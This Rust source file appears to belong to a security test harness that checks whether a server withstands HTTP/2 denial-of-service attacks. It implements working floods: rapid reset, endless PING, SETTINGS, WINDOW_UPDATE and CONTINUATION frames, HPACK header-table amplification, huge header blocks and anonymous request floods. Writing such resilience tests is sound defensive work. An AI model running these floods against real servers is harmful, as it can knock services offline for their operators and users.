//! HTTP/2 frames that cost the server more than the client, on few connections.

use std::time::Duration;

use anyhow::Result;
use futures_util::FutureExt as _;
use futures_util::future::join_all;
use tokio::io::{AsyncWriteExt as _, split};
use tokio::time::{Instant, timeout_at};

use super::connections::drain;
use super::requests::{dry, object_path};
use super::{ATTACKER_ADDRESS, Attack, Context, Report};
use crate::frames::{self, END_HEADERS, END_STREAM, frame};
use crate::tls::{Identity, Protocol};
use crate::{kinds, seed};

/// Concurrent connections of a flood.
const LANES: usize = 4;
/// Frames in one write.
const CHUNK: u32 = 100;

pub(super) const ATTACKS: &[Attack] = &[
    Attack::client(
        "floods/rapid-reset",
        "requests that are reset at once",
        |context| async move { flood(&context, Identity::Admin, rapid_reset).await }.boxed(),
    ),
    Attack::client("floods/pings", "PING frames without end", |context| {
        async move { flood(&context, Identity::Anonymous, pings).await }.boxed()
    }),
    Attack::client(
        "floods/settings",
        "SETTINGS frames without end",
        |context| async move { flood(&context, Identity::Anonymous, settings).await }.boxed(),
    ),
    Attack::client(
        "floods/continuation",
        "headers that CONTINUATION never ends",
        |context| async move { flood(&context, Identity::Anonymous, continuation).await }.boxed(),
    ),
    Attack::client(
        "floods/header-table",
        "a header of 4 kB that is named 4,000 times by index",
        |context| async move { flood(&context, Identity::Anonymous, header_table).await }.boxed(),
    ),
    Attack::client(
        "floods/heads",
        "300 streams with 20,000 headers each and a body that does not come",
        |context| heads(context).boxed(),
    ),
    Attack::client(
        "floods/empty-data",
        "a body of empty DATA frames",
        |context| async move { flood(&context, Identity::Admin, empty_data).await }.boxed(),
    ),
    Attack::client(
        "floods/window-updates",
        "WINDOW_UPDATE of one byte without end",
        |context| async move { flood(&context, Identity::Anonymous, window_updates).await }.boxed(),
    ),
    Attack::client(
        "floods/window-toggles",
        "240 watches per connection, and SETTINGS that open and close the windows of all streams",
        |context| async move { flood(&context, Identity::Admin, window_toggles).await }.boxed(),
    ),
    Attack::client(
        "floods/anonymous",
        "requests without credentials at full speed",
        |context| async move { flood(&context, Identity::Anonymous, anonymous).await }.boxed(),
    ),
];

/// A header block of 120 kB on the wire decodes to 2.4 MB.
async fn heads(context: Context) -> Result<Report> {
    let end = Instant::now() + context.seconds.max(Duration::from_secs(3));
    let connection = context
        .target
        .tls(ATTACKER_ADDRESS, Identity::Admin, Protocol::Http2);
    let stream = connection.await?;
    let (mut reader, mut writer) = split(stream);
    let authority = context.target.address.to_string();
    let mut block = frames::post_block(&authority, &dry("blobs"));
    for number in 0..20_000 {
        block.extend(frames::header(&format!("{:03x}", number % 4_096), ""));
    }
    let mut sent = 0;
    let writing = async {
        writer.write_all(&frames::hello(65_535)).await?;
        for number in 0..300 {
            let mut parts = block.chunks(16 << 10).peekable();
            let mut kind = frames::HEADERS;
            while let Some(part) = parts.next() {
                let flags = if parts.peek().is_none() {
                    END_HEADERS
                } else {
                    0
                };
                let bytes = frame(kind, flags, number * 2 + 1, part);
                writer.write_all(&bytes).await?;
                sent += bytes.len() as u64;
                kind = frames::CONTINUATION;
            }
        }
        writer.flush().await?;
        std::future::pending::<std::io::Result<()>>().await
    };
    let both = async {
        tokio::select! {
            _ = writing => {}
            _ = drain(&mut reader) => {}
        }
    };
    let _ = timeout_at(end, both).await;
    Ok(Report {
        bytes: sent,
        ..Report::default()
    })
}

/// Writes the chunk of each number until the time is over; reconnects when the server closes the
/// connection.
async fn flood(
    context: &Context,
    identity: Identity,
    chunk: fn(&str, u32) -> Vec<u8>,
) -> Result<Report> {
    let end = Instant::now() + context.seconds;
    paced(context, identity, LANES, Duration::ZERO, end, chunk).await
}

/// Floods over `connections` until `end`, with a pause after each chunk.
pub(super) async fn paced(
    context: &Context,
    identity: Identity,
    connections: usize,
    pause: Duration,
    end: Instant,
    chunk: fn(&str, u32) -> Vec<u8>,
) -> Result<Report> {
    let lanes = (0..connections).map(|_| async move {
        let mut sent = 0;
        while Instant::now() < end {
            let connection = context
                .target
                .tls(ATTACKER_ADDRESS, identity, Protocol::Http2)
                .await;
            // A server that rejects further connections behaves correctly.
            let Ok(stream) = connection else {
                tokio::time::sleep(Duration::from_millis(100)).await;
                continue;
            };
            let (mut reader, mut writer) = split(stream);
            let authority = context.target.address.to_string();
            let writing = async {
                writer.write_all(&frames::hello(65_535)).await?;
                // The connection window admits the responses of a whole flood, so flow control does
                // not stop them.
                writer.write_all(&frames::window(0, 1 << 30)).await?;
                for number in 0.. {
                    let bytes = chunk(&authority, number);
                    writer.write_all(&bytes).await?;
                    writer.flush().await?;
                    sent += bytes.len() as u64;
                    if !pause.is_zero() {
                        tokio::time::sleep(pause).await;
                    }
                }
                std::io::Result::Ok(())
            };
            let both = async {
                tokio::select! {
                    _ = writing => {}
                    _ = drain(&mut reader) => {}
                }
            };
            // Ends at the time limit or when the connection fails.
            let _ = timeout_at(end, both).await;
        }
        sent
    });
    let bytes = join_all(lanes).await.into_iter().sum();
    Ok(Report {
        bytes,
        ..Report::default()
    })
}

/// Stream ids of a chunk.
fn streams(number: u32) -> impl Iterator<Item = u32> {
    (0..CHUNK).map(move |stream| (number * CHUNK + stream) * 2 + 1)
}

fn rapid_reset(authority: &str, number: u32) -> Vec<u8> {
    let path = object_path("blobs");
    let cancel = 8_u32.to_be_bytes();
    let requests = streams(number).flat_map(|stream| {
        let mut bytes = frames::get(stream, authority, &path);
        bytes.extend(frame(frames::RST_STREAM, 0, stream, &cancel));
        bytes
    });
    requests.collect()
}

fn anonymous(authority: &str, number: u32) -> Vec<u8> {
    let path = object_path("blobs");
    let requests = streams(number).flat_map(|stream| frames::get(stream, authority, &path));
    requests.collect()
}

fn pings(_: &str, _: u32) -> Vec<u8> {
    frame(frames::PING, 0, 0, &[0; 8]).repeat(CHUNK as usize)
}

fn settings(_: &str, _: u32) -> Vec<u8> {
    frame(frames::SETTINGS, 0, 0, &[]).repeat(CHUNK as usize)
}

fn window_toggles(authority: &str, number: u32) -> Vec<u8> {
    if number == 0 {
        let path = format!("{}?watch=1", kinds::collection(seed::NAMESPACE, "blobs"));
        let streams = (0..240).map(|stream| stream * 2 + 1);
        return streams
            .flat_map(|stream| frames::get(stream, authority, &path))
            .collect();
    }
    let window = |bytes: u32| {
        let mut setting = frames::INITIAL_WINDOW_SIZE.to_be_bytes().to_vec();
        setting.extend_from_slice(&bytes.to_be_bytes());
        frame(frames::SETTINGS, 0, 0, &setting)
    };
    [window(1), window(65_535)]
        .concat()
        .repeat(CHUNK as usize / 2)
}

fn window_updates(_: &str, _: u32) -> Vec<u8> {
    frame(frames::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()).repeat(CHUNK as usize)
}

fn continuation(authority: &str, number: u32) -> Vec<u8> {
    if number == 0 {
        let block = frames::get_block(authority, "/livez");
        return frame(frames::HEADERS, END_STREAM, 1, &block);
    }
    let header = frames::header("x", &"a".repeat(16_000));
    frame(frames::CONTINUATION, 0, 1, &header)
}

fn header_table(authority: &str, number: u32) -> Vec<u8> {
    let mut block = frames::get_block(authority, "/livez");
    // With indexing: the header becomes entry 62, the first of the dynamic table (RFC 7541, 2.3.3).
    let mut header = frames::header("x", &"a".repeat(4_000));
    header[0] = 0x40;
    block.extend(header);
    block.extend([0xbe].repeat(4_000));
    frame(
        frames::HEADERS,
        END_STREAM | END_HEADERS,
        number * 2 + 1,
        &block,
    )
}

fn empty_data(authority: &str, number: u32) -> Vec<u8> {
    if number == 0 {
        let block = frames::post_block(authority, &dry("blobs"));
        return frame(frames::HEADERS, END_HEADERS, 1, &block);
    }
    frame(frames::DATA, 0, 1, &[]).repeat(CHUNK as usize)
}
